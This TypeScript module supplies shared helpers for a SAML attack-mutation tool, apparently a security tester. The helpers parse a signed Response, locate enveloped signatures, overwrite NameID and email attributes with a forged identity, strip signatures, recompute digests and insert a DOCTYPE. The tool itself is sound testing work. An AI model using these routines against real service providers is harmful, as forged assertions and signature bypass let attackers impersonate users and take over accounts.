/**
 * What the SAML mutations share when they take a Response apart: finding a target path, the
 * signatures and what each one signs, writing a forged identity into a copied element, the small DOM
 * edits every attack repeats (replacing text, making a prefixed sibling, dropping signatures), and
 * putting a DOCTYPE in front of the document text.
 */
import type { Document, Element, Node } from '@xmldom/xmldom';
import { childElements, elementsNamed, firstChildNamed, insertAfter, parseXml, serializeXml } from '../../saml/dom.ts';
import { DSIG_NS, descendants, digestNamed, referenceDigest, transformNames, type DigestName, type TransformName } from '../../saml/xmldsig.ts';
import { NotApplied, notApplied, type SentResponse } from './context.ts';
import type { TargetPath } from './params.ts';

const XML_DECLARATION = /^\s*<\?xml[^?]*\?>/;

/** The XML declaration (or '') and the rest of the text, so something can go before the root. */
export function splitDeclaration(xml: string): { declaration: string; body: string } {
  const match = XML_DECLARATION.exec(xml);
  return match ? { declaration: match[0], body: xml.slice(match[0].length) } : { declaration: '', body: xml };
}

/** Puts a DOCTYPE right after the XML declaration (or first). */
export function withDoctype(xml: string, doctype: string): string {
  const { declaration, body } = splitDeclaration(xml);
  return `${declaration}${doctype}${body}`;
}

/**
 * The sent document parsed, or a not-applied: a document an earlier mutation made unparsable (a
 * DOCTYPE, two roots) cannot be taken apart again.
 */
export function parseSent(sent: SentResponse, reason = 'the document is no longer well-formed XML'): Document | NotApplied {
  try {
    return parseXml(sent.xml);
  } catch {
    return notApplied(reason);
  }
}

/** The element a target path names, or undefined when the document has none there. */
export function resolveTarget(document: Document, target: TargetPath): Element | undefined {
  let current: Element | undefined = document.documentElement ?? undefined;
  if (!current || current.localName !== target.steps[0]!.name) return undefined;
  for (const step of target.steps.slice(1)) {
    const matches: Element[] = childElements(current).filter((child: Element) => child.localName === step.name);
    current = matches[step.index - 1];
    if (!current) return undefined;
  }
  return current;
}

/** The element a target path names, or the not-applied every targeted mutation records when it is missing. */
export function targetElement(document: Document, target: TargetPath): Element | NotApplied {
  return resolveTarget(document, target) ?? notApplied(`no element at ${target.text}`);
}

/** A Signature and the element it is the enveloped signature of (its parent, when the Reference names the parent). */
export interface SignedPart {
  signature: Element;
  element: Element;
  id: string;
}

export function referenceUri(signature: Element): string | undefined {
  const reference = descendants(signature, 'Reference')[0];
  return reference?.getAttribute('URI') ?? undefined;
}

/**
 * The enveloped signatures of the document, outermost first: each ds:Signature that is a direct child
 * of the element its Reference names by ID. The three signing layouts give [Response], [Assertion]
 * or [Response, Assertion].
 */
export function signedParts(document: Document): SignedPart[] {
  const parts: SignedPart[] = [];
  for (const signature of descendants(document, 'Signature')) {
    const parent = signature.parentNode;
    if (!parent || parent.nodeType !== 1) continue;
    const element = parent as Element;
    const id = element.getAttribute('ID');
    if (id && referenceUri(signature) === `#${id}`) parts.push({ signature, element, id });
  }
  return parts;
}

/** The direct-child signature of `element`, if any. */
export function ownSignature(element: Element): Element | undefined {
  return childElements(element).find((child) => child.localName === 'Signature' && child.namespaceURI === DSIG_NS);
}

/** A deep copy of `element` without its own (direct-child) Signature: what that signature's digest covers. */
export function unsignedCopy(element: Element): Element {
  const copy = element.cloneNode(true) as Element;
  const signature = ownSignature(copy);
  if (signature) copy.removeChild(signature);
  return copy;
}

export function removeOwnSignature(element: Element): void {
  const signature = ownSignature(element);
  if (signature) element.removeChild(signature);
}

/** Removes every ds:Signature under `node`; returns how many there were. */
export function removeSignatures(node: Element | Document): number {
  const signatures = descendants(node, 'Signature');
  for (const signature of signatures) signature.parentNode?.removeChild(signature);
  return signatures.length;
}

/** Replaces everything inside `element` with one text node. */
export function replaceText(element: Element, text: string): void {
  while (element.firstChild) element.removeChild(element.firstChild);
  element.appendChild(element.ownerDocument!.createTextNode(text));
}

/** Writes `digest` into every DigestValue under `node` (a Signature, or one of its References). */
export function setDigestValues(node: Element, digest: string): void {
  for (const value of descendants(node, 'DigestValue')) replaceText(value, digest);
}

/** The digest algorithm of the first DigestMethod under `node`, if the mutations know it. */
export function digestNameOf(node: Element): DigestName | undefined {
  return digestNamed(descendants(node, 'DigestMethod')[0]?.getAttribute('Algorithm'));
}

/** A new element `localName` in `namespace`, written with the prefix `like` uses (as Okta's `saml2p:`, `ds:`). */
export function createPrefixedAs(like: Element, namespace: string | null, localName: string): Element {
  return like.ownerDocument!.createElementNS(namespace, like.prefix ? `${like.prefix}:${localName}` : localName);
}

const EMAIL_ATTRIBUTE = /^(e-?mail(address)?|mail|urn:oid:0\.9\.2342\.19200300\.100\.1\.3|.*\/claims\/emailaddress)$/i;

/**
 * Makes `element` (an Assertion, or a Response holding one) claim `identity`: every NameID and every
 * value of an email attribute under it. Returns how many values were written.
 */
export function claimIdentity(element: Element, identity: string): number {
  let written = 0;
  const setText = (target: Element): void => {
    replaceText(target, identity);
    written += 1;
  };
  const self = element.localName === 'NameID' ? [element] : [];
  for (const nameId of [...self, ...elementsNamed(element, 'NameID')]) setText(nameId);
  for (const attribute of elementsNamed(element, 'Attribute')) {
    if (!EMAIL_ATTRIBUTE.test(attribute.getAttribute('Name') ?? '')) continue;
    for (const value of childElements(attribute).filter((child) => child.localName === 'AttributeValue')) setText(value);
  }
  return written;
}

/** The Response's first Assertion child. */
export function firstAssertion(root: Element): Element | undefined {
  return childElements(root).find((child) => child.localName === 'Assertion');
}

/** The Response and its first Assertion, or the not-applied of an attack that needs one. */
export function responseAndAssertion(document: Document, noAssertion = 'the Response carries no Assertion'): { root: Element; assertion: Element } | NotApplied {
  const root = document.documentElement!;
  const assertion = firstAssertion(root);
  return assertion ? { root, assertion } : notApplied(noAssertion);
}

/** As responseAndAssertion, for the attacks that also need something signed (checked first). */
export function signedResponse(document: Document, noAssertion?: string): { parts: SignedPart[]; root: Element; assertion: Element } | NotApplied {
  const parts = signedParts(document);
  if (parts.length === 0) return notApplied('nothing in the document is signed');
  const found = responseAndAssertion(document, noAssertion);
  return found instanceof NotApplied ? found : { parts, ...found };
}

/**
 * The Response's Extensions element, made (after Issuer and Signature, where the schema puts it) when
 * there is none yet.
 */
export function extensionsOf(root: Element): Element {
  const existing = firstChildNamed(root, 'Extensions');
  if (existing) return existing;
  const extensions = createPrefixedAs(root, root.namespaceURI, 'Extensions');
  const before = childElements(root).filter((child) => child.localName === 'Issuer' || (child.localName === 'Signature' && child.namespaceURI === DSIG_NS)).at(-1);
  if (before) insertAfter(extensions, before);
  else root.insertBefore(extensions, root.firstChild);
  return extensions;
}

/** Where a Signature's own Issuer sibling is, so an inserted copy keeps the schema's order. */
export function afterIssuer(element: Element, node: Node): void {
  const issuer = firstChildNamed(element, 'Issuer');
  if (issuer) insertAfter(node, issuer);
  else element.insertBefore(node, element.firstChild);
}

/** Runs `edit` on the parsed signed document (see parseSent) and serializes the result. */
export function rewrite(sent: SentResponse, edit: (document: Document) => NotApplied | void): SentResponse | NotApplied {
  const document = parseSent(sent, 'the document is no longer well-formed XML (an earlier mutation made it so), so it cannot be rewritten');
  if (document instanceof NotApplied) return document;
  const outcome = edit(document);
  if (outcome instanceof NotApplied) return outcome;
  return { ...sent, xml: serializeXml(document) };
}

/** The algorithms a signature's (first) Reference uses, to recompute a digest the way its verifier would. */
export function referenceAlgorithms(signature: Element): { transforms: TransformName[]; digest: DigestName } | undefined {
  const reference = descendants(signature, 'Reference')[0];
  if (!reference) return undefined;
  const transforms = transformNames(reference);
  const digest = digestNameOf(reference);
  return transforms && digest ? { transforms, digest } : undefined;
}

/** The digest of `element` as a verifier computes it for `signature` (the signature itself taken out while it is inside). */
export function digestFor(element: Element, signature: Element): string | undefined {
  const algorithms = referenceAlgorithms(signature);
  if (!algorithms) return undefined;
  const inside = isInside(signature, element);
  const parent = signature.parentNode;
  const next = signature.nextSibling;
  if (inside) parent!.removeChild(signature);
  try {
    return referenceDigest(element, algorithms.transforms, algorithms.digest);
  } finally {
    if (inside) parent!.insertBefore(signature, next);
  }
}

export function isInside(node: Node, container: Node): boolean {
  for (let current = node.parentNode; current; current = current.parentNode) if (current === container) return true;
  return false;
}
